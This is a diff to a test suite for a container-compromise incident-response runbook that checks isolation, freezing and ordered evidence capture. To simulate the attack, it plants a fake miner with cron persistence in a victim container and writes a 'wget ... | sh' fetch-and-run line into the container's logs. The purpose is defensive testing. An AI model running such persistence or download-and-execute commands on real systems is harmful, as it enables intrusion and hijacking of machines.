@@ -24,7 +24,11 @@ describe('shipped runbook container-compromise', () => {
     });
     original = await victim.inspect();
     // the compromise: a dropped payload, cron persistence, and the dropper's trace in the logs
-    await execIn(victim, ['sh', '-c', 'mkdir -p /tmp/.x /etc/cron.d && echo "while :; do sleep 1; done" > /tmp/.x/miner && chmod +x /tmp/.x/miner && echo "* * * * * root /tmp/.x/miner" > /etc/cron.d/evil']);
+    await execIn(victim, [
+      'sh',
+      '-c',
+      'mkdir -p /tmp/.x /etc/cron.d && echo "while :; do sleep 1; done" > /tmp/.x/miner && chmod +x /tmp/.x/miner && echo "* * * * * root /tmp/.x/miner" > /etc/cron.d/evil',
+    ]);
     await execIn(victim, ['sh', '-c', 'echo "attack: wget http://198.51.100.9/x | sh" > /proc/1/fd/1']);
 
     ws = runbookWorkspace();
@@ -34,22 +38,31 @@ describe('shipped runbook container-compromise', () => {
 
   afterAll(async () => {
     await removeQuietly(docker.getContainer(name));
-    await docker.getNetwork(network).remove().catch(() => undefined);
+    await docker
+      .getNetwork(network)
+      .remove()
+      .catch(() => undefined);
   });
 
   it('contained the original container on the quarantine network and froze it before any recovery', () => {
-    const contained = ws.query<{ act: string; subject: string; how_json: string }>("SELECT act, subject, how_json FROM custody_records WHERE incident_id = ? AND act = 'contained'", incidentId);
+    const contained = ws.query<{ act: string; subject: string; how_json: string }>(
+      "SELECT act, subject, how_json FROM custody_records WHERE incident_id = ? AND act = 'contained'",
+      incidentId,
+    );
     expect(contained.map((record) => JSON.parse(record.how_json).action)).toEqual(['docker.isolate', 'docker.pause']);
     expect(contained.every((record) => record.subject === original.Id)).toBe(true);
   });
 
   it('captured every kind of evidence in order of volatility, each file matching its hash', () => {
-    const steps = ws.query<{ step_id: string }>("SELECT step_id FROM step_journal WHERE incident_id = ? AND status = 'finished' ORDER BY started_at", incidentId).map((row) => row.step_id);
+    const steps = ws
+      .query<{ step_id: string }>("SELECT step_id FROM step_journal WHERE incident_id = ? AND status = 'finished' ORDER BY started_at", incidentId)
+      .map((row) => row.step_id);
     // the three millisecond captures run side by side (in any order), all before containment
     expect(steps.slice(0, 3).sort()).toEqual(['connections', 'inspect', 'processes']);
     expect(steps.slice(3, 11)).toEqual(['isolate', 'freeze', 'logs', 'diff', 'dropped-files', 'forensic-image', 'filesystem', 'docker-journal']);
     const byKind = expectEvidenceIntact(ws, incidentId);
-    for (const kind of ['inspect', 'processes', 'network', 'logs', 'diff', 'files', 'image', 'export', 'host-command']) expect(byKind.has(kind), kind).toBe(true);
+    for (const kind of ['inspect', 'processes', 'network', 'logs', 'diff', 'files', 'image', 'export', 'host-command'])
+      expect(byKind.has(kind), kind).toBe(true);
   });
 
   it('found the dropper in the logs and the cron persistence and payload in the diff', () => {
